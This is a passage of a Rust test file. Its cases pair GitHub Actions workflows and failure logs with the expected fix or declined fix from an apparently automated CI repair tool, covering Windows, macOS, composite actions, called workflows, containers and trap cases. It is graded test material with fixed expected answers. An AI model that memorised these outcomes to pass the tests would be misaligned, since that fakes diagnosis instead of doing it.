        name: "Maven Central 429 in `./mvnw -B verify`: Maven's own retry or a cache, never a loop around the build",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-java@v4\n        with:\n          distribution: temurin\n          java-version: '21'\n      - run: ./mvnw -B verify\n",
        )],
        workflow: Some(CI),
        job: "build",
        step: "Run ./mvnw -B verify",
        lines: MAVEN_CENTRAL_429_IN_VERIFY,
        want: Want::Without(&either(&[CI], &[]), &["for ", "until "]),
    },
    // ---- renamed files with a near match ----
    Case {
        name: "production settings missing, only other environments' settings in the directory: no path fix",
        files: &[
            (
                CI,
                "on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cp config/settings.production.yml deploy/settings.yml\n",
            ),
            ("config/settings.staging.yml", "env: staging\n"),
            ("config/settings.development.yml", "env: development\n"),
        ],
        workflow: Some(CI),
        job: "deploy",
        step: "Run cp config/settings.production.yml deploy/settings.yml",
        lines: PROD_SETTINGS_MISSING,
        want: Want::Declined(""),
    },
    // ---- reusable workflows called with inputs ----
    Case {
        name: "requirements moved in one caller's directory of a callee whose working directory is an input",
        files: &[
            (
                CI,
                "on: push\njobs:\n  api:\n    uses: ./.github/workflows/python-tests.yml\n    with:\n      working-directory: services/api\n  worker:\n    uses: ./.github/workflows/python-tests.yml\n    with:\n      working-directory: services/worker\n",
            ),
            (
                TEST_CALLEE,
                "on:\n  workflow_call:\n    inputs:\n      working-directory:\n        type: string\n        required: true\njobs:\n  test:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: ${{ inputs.working-directory }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: pip install -r requirements.txt\n      - run: python -m pytest\n",
            ),
            ("services/api/requirements/base.txt", "fastapi\n"),
            ("services/worker/requirements.txt", "celery\n"),
        ],
        workflow: Some(CI),
        job: "api / test",
        step: "Run pip install -r requirements.txt",
        lines: CALLEE_REQUIREMENTS_MISSING,
        // Rewriting the callee's path would break the worker caller, whose file is still there.
        want: Want::Declined(""),
    },
    Case {
        name: "pandoc missing in a callee whose runner comes from the caller's literal input",
        files: &[
            (
                CI,
                "on: push\njobs:\n  docs:\n    uses: ./.github/workflows/docs.yml\n    with:\n      os: ubuntu-latest\n",
            ),
            (
                DOCS_CALLEE,
                "on:\n  workflow_call:\n    inputs:\n      os:\n        type: string\n        default: ubuntu-latest\njobs:\n  build:\n    runs-on: ${{ inputs.os }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: pandoc docs/index.md -o site/index.html\n",
            ),
        ],
        workflow: Some(CI),
        job: "docs / build",
        step: "Run pandoc docs/index.md -o site/index.html",
        lines: PANDOC_IN_CALLEE,
        // The one caller passes ubuntu-latest: an apt install in the callee is right, and so is a refusal (the
        // callee's runs-on is an expression); never a Windows or macOS install for a Linux run.
        want: Want::Without(&either(&[DOCS_CALLEE], &["pandoc"]), &["choco", "brew"]),
    },
];

#[test]
fn round_six_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_6);
}

// ---- Round 7: Windows and macOS jobs, composite actions and called workflows, matrix legs with their own runner,
// login shells, service containers, limits by expression, `defaults.run.working-directory`, and traps whose right
// answer is no fix. Each outcome decided from issue 12's definitions before the first run.

const PWSH: &str = "shell: C:\\Program Files\\PowerShell\\7\\pwsh.EXE -command \". '{0}'\"";

const NO_YAML_PWSH: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    PWSH,
    "env:",
    "  pythonLocation: C:\\hostedtoolcache\\windows\\Python\\3.12.7\\x64",
    "##[endgroup]",
    "============================= test session starts =============================",
    "platform win32 -- Python 3.12.7, pytest-8.3.3, pluggy-1.5.0",
    "rootdir: D:\\a\\cfgtool\\cfgtool",
    "collected 0 items / 1 error",
    "=================================== ERRORS ====================================",
    "____________________ ERROR collecting tests/test_load.py ______________________",
    "ImportError while importing test module 'D:\\a\\cfgtool\\cfgtool\\tests\\test_load.py'.",
    "tests\\test_load.py:3: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "=========================== short test summary info ===========================",
    "ERROR tests/test_load.py",
    "##[error]Process completed with exit code 1.",
];

const CHOCO_FAILED_THEN_DOXYGEN_PWSH: &[&str] = &[
    "##[group]Run choco install doxygen.install -y",
    "choco install doxygen.install -y",
    "doxygen Doxyfile",
    PWSH,
    "##[endgroup]",
    "Chocolatey v2.3.0",
    "Installing the following packages:",
    "doxygen.install",
    "By installing, you accept licenses for the packages.",
    "Progress: Downloading doxygen.install 1.12.0... 100%",
    "",
    "doxygen.install v1.12.0 [Approved]",
    "doxygen.install package files install completed. Performing other installation steps.",
    "ERROR: The remote file either doesn't exist, is unauthorized, or is forbidden for url 'https://www.doxygen.nl/files/doxygen-1.12.0-setup.exe'. Exception calling \"GetResponse\" with \"0\" argument(s): \"The remote server returned an error: (404) Not Found.\"",
    "The install of doxygen.install was NOT successful.",
    "Error while running 'C:\\ProgramData\\chocolatey\\lib\\doxygen.install\\tools\\chocolateyInstall.ps1'.",
    " See log for details.",
    "",
    "Chocolatey installed 0/1 packages. 1 packages failed.",
    " See the log for details (C:\\ProgramData\\chocolatey\\logs\\chocolatey.log).",
    "",
    "Failures",
    " - doxygen.install (exited 404) - Error while running 'C:\\ProgramData\\chocolatey\\lib\\doxygen.install\\tools\\chocolateyInstall.ps1'.",
    "doxygen: D:\\a\\_temp\\7a6b5c4d-3e2f-4a1b-9c8d-7e6f5a4b3c2d.ps1:3",
    "Line |",
    "   3 |  doxygen Doxyfile",
    "     |  ~~~~~~~",
    "     | The term 'doxygen' is not recognized as a name of a cmdlet, function, script file, or executable program.",
    "     | Check the spelling of the name, or if a path was included, verify that the path is correct and try again.",
    "##[error]Process completed with exit code 1.",
];

const DOXYGEN_MISSING_GIT_BASH: &[&str] = &[
    "##[group]Run doxygen Doxyfile",
    "doxygen Doxyfile",
    "shell: C:\\Program Files\\Git\\bin\\bash.EXE --noprofile --norc -e -o pipefail {0}",
    "##[endgroup]",
    "/d/a/_temp/0e1f2a3b-4c5d-4e6f-8a7b-9c0d1e2f3a4b.sh: line 1: doxygen: command not found",
    "##[error]Process completed with exit code 127.",
];

const DOXYGEN_MISSING_MACOS: &[&str] = &[
    "##[group]Run doxygen Doxyfile",
    "doxygen Doxyfile",
    "shell: /bin/bash -e {0}",
    "##[endgroup]",
    "/Users/runner/work/_temp/9c8b7a6f-5e4d-4c3b-a2a1-0f9e8d7c6b5a.sh: line 1: doxygen: command not found",
    "##[error]Process completed with exit code 127.",
];

const XCODEBUILD_CLT_ONLY: &[&str] = &[
    "##[group]Run xcodebuild -scheme App -destination 'platform=macOS' build",
    "xcodebuild -scheme App -destination 'platform=macOS' build",
    "shell: /bin/bash -e {0}",
    "##[endgroup]",
    "xcode-select: error: tool 'xcodebuild' requires Xcode, but active developer directory '/Library/Developer/CommandLineTools' is a command line tools instance",
    "##[error]Process completed with exit code 1.",
];

const NO_YAML_IN_COMPOSITE: &[&str] = &[
    "##[group]Run ./.github/actions/pytest",
    "with:",
    "  path: services/api",
    "##[endgroup]",
    "##[group]Run pip install -r services/api/requirements.txt",
    "pip install -r services/api/requirements.txt",
    "shell: /usr/bin/bash --noprofile --norc -e -o pipefail {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "Collecting fastapi (from -r services/api/requirements.txt (line 1))",
    "Successfully installed fastapi-0.115.0 pytest-8.3.3",
    "##[group]Run python -m pytest services/api",
    "python -m pytest services/api",
    "shell: /usr/bin/bash --noprofile --norc -e -o pipefail {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "ImportError while importing test module '/home/runner/work/platform/platform/services/api/tests/test_settings.py'.",
    "services/api/tests/test_settings.py:2: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 2.",
];

const PANDOC_MISSING_MACOS: &[&str] = &[
    "##[group]Run pandoc docs/index.md -o site/index.html",
    "pandoc docs/index.md -o site/index.html",
    "shell: /bin/bash -e {0}",
    "##[endgroup]",
    "/Users/runner/work/_temp/1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d.sh: line 1: pandoc: command not found",
    "##[error]Process completed with exit code 127.",
];

const NO_YAML_LOGIN_SHELL: &[&str] = &[
    "##[group]Run python -m pytest",
    "python -m pytest",
    "shell: /usr/bin/bash -l {0}",
    "env:",
    "  CONDA_PKGS_DIR: /home/runner/conda_pkgs_dir",
    "##[endgroup]",
    "ImportError while loading conftest '/home/runner/work/sci/sci/tests/conftest.py'.",
    "tests/conftest.py:1: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 4.",
];

const PSQL_MISSING_IN_CONTAINER: &[&str] = &[
    "##[group]Run psql -h postgres -U postgres -c 'select 1'",
    "psql -h postgres -U postgres -c 'select 1'",
    "shell: sh -e {0}",
    "env:",
    "  PGPASSWORD: postgres",
    "##[endgroup]",
    "/__w/_temp/4b3a2c1d-0e9f-4a8b-9c7d-6e5f4a3b2c1d.sh: 1: psql: not found",
    "##[error]Process completed with exit code 127.",
];

const NO_YAML_AFTER_CD_PARENT: &[&str] = &[
    "##[group]Run cd .. && pip install -r requirements.txt",
    "cd .. && pip install -r requirements.txt",
    "python -m pytest",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "Collecting celery (from -r requirements.txt (line 1))",
    "Successfully installed celery-5.4.0 pytest-8.3.3",
    "ImportError while importing test module '/home/runner/work/platform/platform/services/api/tests/test_tasks.py'.",
    "tests/test_tasks.py:1: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 2.",
];

const ACTION_ENTRY_MISSING: &[&str] = &[
    "##[group]Run acme/deploy-action@main",
    "with:",
    "  environment: production",
    "##[endgroup]",
    "node:internal/modules/cjs/loader:1228",
    "  throw err;",
    "  ^",
    "",
    "Error: Cannot find module '/home/runner/work/_actions/acme/deploy-action/main/dist/index.js'",
    "    at Module._resolveFilename (node:internal/modules/cjs/loader:1225:15)",
    "    at Module._load (node:internal/modules/cjs/loader:1051:27)",
    "    at Function.executeUserEntryPoint [as runMain] (node:internal/modules/run_main:174:12)",
    "    at node:internal/main/run_main_module:28:49 {",
    "  code: 'MODULE_NOT_FOUND',",
    "  requireStack: []",
    "}",
    "",
    "Node.js v20.18.0",
];

const RESOLUTION_FAILED_THEN_NO_YAML: &[&str] = &[
    "##[group]Run pip install -r requirements.txt || echo \"install failed, trying the checks anyway\"",
    "pip install -r requirements.txt || echo \"install failed, trying the checks anyway\"",
    "python scripts/check_config.py",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "Collecting requests==2.31.0 (from -r requirements.txt (line 1))",
    "Collecting acme-client==1.4.0 (from -r requirements.txt (line 2))",
    "INFO: pip is looking at multiple versions of acme-client to determine which version is compatible with other requirements. This could take a while.",
    "ERROR: Cannot install -r requirements.txt (line 2) and requests==2.31.0 because these package versions have conflicting dependencies.",
    "",
    "The conflict is caused by:",
    "    The user requested requests==2.31.0",
    "    acme-client 1.4.0 depends on requests>=2.32",
    "",
    "To fix this you could try to:",
    "1. loosen the range of package versions you've specified",
    "2. remove package versions to allow pip to attempt to solve the dependency conflict",
    "",
    "ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/#dealing-with-dependency-conflicts",
    "install failed, trying the checks anyway",
    "Traceback (most recent call last):",
    "  File \"/home/runner/work/svc/svc/scripts/check_config.py\", line 3, in <module>",
    "    import yaml",
    "ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 1.",
];

const PYTEST_ACTION: &str = ".github/actions/pytest/action.yml";

/// Each outcome decided from issue 12's definitions before the first run.
const ROUND_7: &[Case] = &[
    // ---- Windows jobs ----
    Case {
        name: "module missing on windows-latest under the pwsh default shell",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n      - run: python -m pytest\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run python -m pytest",
        lines: NO_YAML_PWSH,
        want: Want::Fix {
            files: &[CI, "requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r requirements.txt"],
        },
    },
    Case {
        name: "trap: choco's install failed, then the program it was to install is not recognized (a consequence)",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: windows-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          choco install doxygen.install -y\n          doxygen Doxyfile\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run choco install doxygen.install -y",
        lines: CHOCO_FAILED_THEN_DOXYGEN_PWSH,
        want: Want::Declined(""),
    },
    Case {
        name: "program missing under Git Bash (defaults.run.shell: bash) on windows-latest: no choco install of an installer package",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: windows-latest\n    defaults:\n      run:\n        shell: bash\n    steps:\n      - uses: actions/checkout@v4\n      - run: doxygen Doxyfile\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run doxygen Doxyfile",
        lines: DOXYGEN_MISSING_GIT_BASH,
        // Chocolatey's doxygen is an installer package: what it adds to the machine PATH is
        // not seen by later steps (actions/runner#2056), so a `choco install` step is no fix
        // (review84 M4; round 7 first counted it as right).
        want: Want::Declined(""),
    },
    // ---- macOS jobs ----
    Case {
        name: "program missing on macos-14: a brew install",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    runs-on: macos-14\n    steps:\n      - uses: actions/checkout@v4\n      - run: doxygen Doxyfile\n",
        )],
        workflow: Some(CI),
        job: "docs",
        step: "Run doxygen Doxyfile",
        lines: DOXYGEN_MISSING_MACOS,
        want: Want::Without(&fix(&[CI], &["brew install doxygen"]), &["apt-get", "choco", "sudo"]),
    },
    Case {
        name: "trap: xcodebuild with only the Command Line Tools selected: no install of a package",
        files: &[(
            CI,
            "on: push\njobs:\n  app:\n    runs-on: macos-14\n    steps:\n      - uses: actions/checkout@v4\n      - run: xcodebuild -scheme App -destination 'platform=macOS' build\n",
        )],
        workflow: Some(CI),
        job: "app",
        step: "Run xcodebuild -scheme App -destination 'platform=macOS' build",
        lines: XCODEBUILD_CLT_ONLY,
        want: Want::Declined(""),
    },
    // ---- matrix include legs with their own runner ----
    Case {
        name: "program missing on the macOS leg of a matrix whose include legs name their own runs-on",
        files: &[(
            CI,
            "on: push\njobs:\n  build:\n    strategy:\n      matrix:\n        include:\n          - name: linux\n            runner: ubuntu-latest\n          - name: macos\n            runner: macos-14\n    runs-on: ${{ matrix.runner }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: doxygen Doxyfile\n",
        )],
        workflow: Some(CI),
        job: "build (macos, macos-14)",
        step: "Run doxygen Doxyfile",
        lines: DOXYGEN_MISSING_MACOS,
        // Brew for the leg that failed, guarded to it; never apt for the leg the log does not show failing.
        want: Want::Without(
            &fix(&[CI], &["brew install doxygen", "runner.os"]),
            &["apt-get", "choco"],
        ),
    },
    // ---- composite actions and called workflows ----
    Case {
        name: "module missing in a composite action of the repository that installs from a path its input names",
        files: &[
            (
                CI,
                "on: push\njobs:\n  api:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - uses: ./.github/actions/pytest\n        with:\n          path: services/api\n",
            ),
            (
                PYTEST_ACTION,
                "name: pytest\ninputs:\n  path:\n    required: true\nruns:\n  using: composite\n  steps:\n    - run: pip install -r ${{ inputs.path }}/requirements.txt\n      shell: bash\n    - run: python -m pytest ${{ inputs.path }}\n      shell: bash\n",
            ),
            ("services/api/requirements.txt", "fastapi\npytest\n"),
            ("requirements.txt", "pre-commit\n"),
        ],
        workflow: Some(CI),
        job: "api",
        step: "Run ./.github/actions/pytest",
        lines: NO_YAML_IN_COMPOSITE,
        // The package's own list or the action's install line, or no fix; never the root's list.
        want: Want::Either {
            files: &[PYTEST_ACTION, "services/api/requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r"],
        },
    },
    Case {
        name: "trap: program missing in a called workflow of another repository (no file here to change)",
        files: &[(
            CI,
            "on: push\njobs:\n  docs:\n    uses: acme/shared-workflows/.github/workflows/docs.yml@v1\n",
        )],
        workflow: Some(CI),
        job: "docs / build",
        step: "Run pandoc docs/index.md -o site/index.html",
        lines: PANDOC_MISSING_MACOS,
        want: Want::Declined(""),
    },
    Case {
        name: "program missing in a called workflow's macOS job, the caller given",
        files: &[
            (CI, "on: push\njobs:\n  docs:\n    uses: ./.github/workflows/docs.yml\n"),
            (
                DOCS_CALLEE,
                "on:\n  workflow_call:\njobs:\n  build:\n    runs-on: macos-14\n    steps:\n      - uses: actions/checkout@v4\n      - run: pandoc docs/index.md -o site/index.html\n",
            ),
        ],
        workflow: Some(CI),
        job: "docs / build",
        step: "Run pandoc docs/index.md -o site/index.html",
        lines: PANDOC_MISSING_MACOS,
        want: Want::Without(&fix(&[DOCS_CALLEE], &["brew install pandoc"]), &["apt-get", "choco"]),
    },
    // ---- login shells and conda ----
    Case {
        name: "module missing in a conda job whose steps run in `shell: bash -l {0}`",
        files: &[
            (
                CI,
                "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: conda-incubator/setup-miniconda@v3\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt\n        shell: bash -l {0}\n      - run: python -m pytest\n        shell: bash -l {0}\n",
            ),
            REQS,
        ],
        workflow: Some(CI),
        job: "test",
        step: "Run python -m pytest",
        lines: NO_YAML_LOGIN_SHELL,
        want: Want::Fix {
            files: &[CI, "requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r requirements.txt"],
        },
    },
    // ---- service containers ----
    Case {
        name: "client missing in a Debian job container beside a postgres service: apt in the container, no sudo",
        files: &[(
            CI,
            "on: push\njobs:\n  db:\n    runs-on: ubuntu-latest\n    container: python:3.12-slim\n    services:\n      postgres:\n        image: postgres:16\n        env:\n          POSTGRES_PASSWORD: postgres\n    steps:\n      - uses: actions/checkout@v4\n      - run: psql -h postgres -U postgres -c 'select 1'\n        env:\n          PGPASSWORD: postgres\n",
        )],
        workflow: Some(CI),
        job: "db",
        step: "Run psql -h postgres -U postgres -c 'select 1'",
        lines: PSQL_MISSING_IN_CONTAINER,
        want: Want::Without(&either(&[CI], &["postgresql-client"]), &["sudo", "brew", "choco"]),
    },
    // ---- limits set by expression ----
    Case {
        name: "trap: the job's timeout-minutes is an expression over a repository variable",
        files: &[(
            CI,
            "on: push\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    timeout-minutes: ${{ fromJSON(vars.E2E_TIMEOUT || '30') }}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test\n",
        )],
        workflow: Some(CI),
        job: "e2e",
        step: "Run make test",
        lines: TIMED_OUT_30,
        want: Want::Declined(""),
    },
    // ---- defaults.run.working-directory ----
    Case {
        name: "module missing where the install runs after `cd ..` from the job's default working directory",
        files: &[
            (
                CI,
                "on: push\njobs:\n  api:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: services/api\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          cd .. && pip install -r requirements.txt\n          python -m pytest\n",
            ),
            ("requirements.txt", "pre-commit\n"),
            ("services/requirements.txt", "celery\npytest\n"),
            ("services/api/requirements.txt", "fastapi\n"),
        ],
        workflow: Some(CI),
        job: "api",
        step: "Run cd .. && pip install -r requirements.txt",
        lines: NO_YAML_AFTER_CD_PARENT,
        // services/requirements.txt is the list installed, or the install line itself; never the root's or the
        // api's own list.
        want: Want::Either {
            files: &[CI, "services/requirements.txt"],
            adds: &["PyYAML"],
            removes: &["pip install -r requirements.txt"],
        },
    },
    // ---- traps: the fix is not in this repository, or the failure is a consequence ----
    Case {
        name: "trap: a third-party action's own entry point is missing (its repository's file, not this one's)",
        files: &[(
            CI,
            "on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/deploy-action@main\n        with:\n          environment: production\n",
        )],
        workflow: Some(CI),
        job: "deploy",
        step: "Run acme/deploy-action@main",
        lines: ACTION_ENTRY_MISSING,
        want: Want::Declined(""),
    },
    Case {
        name: "trap: pip's resolution failed (tolerated), then the module it would have installed is missing",
        files: &[
            (
                CI,
                "on: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          pip install -r requirements.txt || echo \"install failed, trying the checks anyway\"\n          python scripts/check_config.py\n",
            ),
            ("requirements.txt", "requests==2.31.0\nacme-client==1.4.0\nPyYAML\n"),
        ],
        workflow: Some(CI),
        job: "check",
        step: "Run pip install -r requirements.txt || echo \"install failed, trying the checks anyway\"",
        lines: RESOLUTION_FAILED_THEN_NO_YAML,
        want: Want::Declined(""),
    },
];

#[test]
fn round_seven_shapes_get_the_right_fix_or_a_reasoned_refusal() {
    assert_round(ROUND_7);
}

// ---- review83 H1's family: the install runs in another directory than the root ----

const NO_YAML_IN_API: &[&str] = &[
    "##[group]Run python -m pytest services/api",
    "python -m pytest services/api",
    "shell: /usr/bin/bash -e {0}",
    "env:",
    "  pythonLocation: /opt/hostedtoolcache/Python/3.12.7/x64",
    "##[endgroup]",
    "ImportError while importing test module '/home/runner/work/platform/platform/services/api/tests/test_settings.py'.",
    "services/api/tests/test_settings.py:2: in <module>",
    "    import yaml",
    "E   ModuleNotFoundError: No module named 'yaml'",
    "##[error]Process completed with exit code 2.",
];

/// A workflow whose install step runs `install` (a script in the form being tested) and whose test step fails
/// with the module missing; the root, `services/` and `services/api/` each hold a `requirements.txt`.
macro_rules! elsewhere_install_case {
    ($name:expr, $workflow:expr) => {
        Case {
            name: $name,
            files: &[
                (CI, $workflow),
                ("requirements.txt", "pre-commit\n"),
                ("services/requirements.txt", "celery\n"),
                ("services/api/requirements.txt", "fastapi\npytest\n"),
            ],
            workflow: Some(CI),
            job: "test",
            step: "Run python -m pytest services/api",
            lines: NO_YAML_IN_API,
            // The list the install reads (services/api's), or the install line itself, or no fix; never the root's
            // list nor services/', and never the package put after the end of the install command (after a
            // subshell's `)` or a quoted `sh -c` string, where it is no argument of pip).
            want: Want::Without(
                &Want::Either {
                    files: &[CI, "services/api/requirements.txt"],
                    adds: &["PyYAML"],
                    removes: &["pip install -r requirements.txt"],
                },
                &[") PyYAML", "\" PyYAML", "' PyYAML"],
            ),
        }
    };
}

/// Each outcome decided from issue 12's definitions before the first run.
const H1_FAMILY: &[Case] = &[
    elsewhere_install_case!(
        "cd and the install on one line",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: cd services/api && pip install -r requirements.txt\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "pushd on the line before the install, popd after",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          pushd services/api\n          pip install -r requirements.txt\n          popd\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "the step's working-directory, then cd into a subdirectory",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: cd api && pip install -r requirements.txt\n        working-directory: services\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "the job's default working-directory, then cd ..",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    defaults:\n      run:\n        working-directory: services/api/tests\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          cd ..\n          pip install -r requirements.txt\n      - run: python -m pytest services/api\n        working-directory: .\n"
    ),
    elsewhere_install_case!(
        "a subshell (cd x; pip install …)",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: (cd services/api; pip install -r requirements.txt)\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "cd \"$DIR\" from the step's env",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          cd \"$DIR\"\n          pip install -r requirements.txt\n        env:\n          DIR: services/api\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "cd inside a quoted bash -c",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: bash -c \"cd services/api && pip install -r requirements.txt\"\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "cd inside a quoted bash -c, more commands after the install",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: bash -c \"cd services/api && pip install -r requirements.txt && pip check\"\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "cd inside a single-quoted sh -ec",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: sh -ec 'cd services/api; pip install -r requirements.txt; pip check'\n      - run: python -m pytest services/api\n"
    ),
    elsewhere_install_case!(
        "cd in an if block before the install",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: |\n          if [ -d services/api ]; then cd services/api; fi\n          pip install -r requirements.txt\n      - run: python -m pytest services/api\n"
    ),
];

#[test]
fn an_install_that_runs_elsewhere_never_extends_the_roots_requirements() {
    assert_round(H1_FAMILY);
}

// ---- review80 L4: the fixable entries of batch 76 through a whole `fix` ----

const YARN_BINARY_MISSING_ALPINE: &[&str] = &[
    "##[group]Run yarn lint",
    "yarn lint",
    "shell: sh -e {0}",
    "##[endgroup]",
    "yarn run v1.22.22",
    "error Couldn't find the binary eslint",
    "info Visit https://yarnpkg.com/en/docs/cli/run for documentation about this command.",
    "##[error]Process completed with exit code 1.",
];

const ZIP_NOTHING_TO_DO: &[&str] = &[
    "##[group]Run zip -r site.zip CHANGELOG.md",
    "zip -r site.zip CHANGELOG.md",
    "shell: /usr/bin/bash -e {0}",
    "##[endgroup]",
    "\tzip warning: name not matched: CHANGELOG.md",
    "",
    "zip error: Nothing to do! (site.zip)",
    "##[error]Process completed with exit code 12.",
];

/// Each outcome decided from issue 12's definitions before the first run.
const BATCH_76_FIXES: &[Case] = &[
    Case {
        name: "yarn's missing binary in an Alpine job container: no system install (the package's dependency)",
        files: &[(
            CI,
            "on: push\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    container: node:20-alpine\n    steps:\n      - uses: actions/checkout@v4\n      - run: yarn lint\n",
        )],
        workflow: Some(CI),
        job: "lint",
        step: "Run yarn lint",
        lines: YARN_BINARY_MISSING_ALPINE,
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["yarn"],
                removes: &[],
            },
            &["apk add", "apt-get"],
        ),
    },
    Case {
        name: "zip stopped on a name that matched nothing, the file moved under docs/",
        files: &[
            (
                CI,
                "on: push\njobs:\n  site:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: zip -r site.zip CHANGELOG.md\n",
            ),
            ("docs/CHANGELOG.md", "# Changes\n"),
        ],
        workflow: Some(CI),
        job: "site",
        step: "Run zip -r site.zip CHANGELOG.md",
        lines: ZIP_NOTHING_TO_DO,
        // The one file of that name is where it went, or no fix; never a zip install (zip ran).
        want: Want::Without(
            &Want::Either {
                files: &[CI],
                adds: &["docs/CHANGELOG.md"],
                removes: &["zip -r site.zip CHANGELOG.md"],
            },
            &["apt-get", "install"],
        ),
    },
];

#[test]
fn batch_76_fixable_entries_get_the_right_fix_or_none() {
    assert_round(BATCH_76_FIXES);
}
